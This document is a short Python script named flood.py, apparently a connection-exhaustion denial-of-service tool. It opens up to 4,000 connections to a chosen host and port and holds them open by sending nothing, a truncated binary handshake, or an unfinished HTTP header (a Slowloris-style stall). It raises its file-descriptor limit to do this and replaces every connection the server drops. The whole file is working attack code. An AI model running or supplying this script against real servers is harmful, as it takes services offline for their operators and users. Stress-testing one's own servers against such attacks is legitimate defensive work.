"""
Takes what it can get and never lets go: `flood.py silent|half|heads HOST PORT`. Says so when it has begun, and goes on, with a new
connection for each that is taken from it.
"""
import errno
import resource
import selectors
import socket
import sys

kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
FAMILY = socket.AF_INET6 if ":" in host else socket.AF_INET
AT_ONCE = 4_000
BEGUN = 1_500
limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))

FIRST = {"silent": b"", "half": b"\0\0\0\x08\x04\xd2", "heads": b"GET / HTTP/1.1\r\nX: "}[kind]
selector = selectors.DefaultSelector()
opened = 0


def open_one():
    client = socket.socket(FAMILY)
    client.setblocking(False)
    if client.connect_ex((host, port)) not in (0, errno.EINPROGRESS):
        client.close()
        return
    selector.register(client, selectors.EVENT_WRITE | (selectors.EVENT_READ if not FIRST else 0))


def go_on(client, events):
    global opened
    try:
        if events & selectors.EVENT_READ and not client.recv(4096):
            raise OSError
        if events & selectors.EVENT_WRITE:
            opened += 1
            if opened == BEGUN:
                print("flooding", flush=True)
            if FIRST:
                client.send(FIRST)
            selector.modify(client, selectors.EVENT_READ)
    except OSError:
        selector.unregister(client)
        client.close()


while True:
    for _ in range(min(64, AT_ONCE - len(selector.get_map()))):
        open_one()
    for key, events in selector.select(0.05):
        go_on(key.fileobj, events)
